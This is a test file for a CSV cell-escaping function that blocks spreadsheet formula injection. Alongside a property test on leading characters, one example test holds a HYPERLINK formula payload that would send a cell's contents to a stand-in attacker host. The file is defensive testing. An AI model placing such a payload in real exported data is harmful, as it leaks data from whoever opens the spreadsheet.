import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cellText, safeCell } from './csv-cells.ts';

describe('text cells safe to open in a spreadsheet', () => {
  it('never start with a character that makes a formula, and read back exactly', () => {
    const starts = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''", 'a', ' ', '');
    fc.assert(
      fc.property(starts, fc.string(), (start, rest) => {
        const text = start + rest;
        expect(safeCell(text)).not.toMatch(/^[=+\-@\t\r]/);
        expect(cellText(safeCell(text))).toBe(text);
      }),
      { numRuns: 1000 },
    );
  });

  it('quote formulas, phone numbers and a leading quote, and leave other text as it is', () => {
    expect(safeCell('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")')).toBe(
      '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    );
    expect(safeCell('+919876543210')).toBe("'+919876543210");
    expect(safeCell("'quoted'")).toBe("''quoted'");
    expect(safeCell('Fagor Electrodomésticos')).toBe('Fagor Electrodomésticos');
  });
});
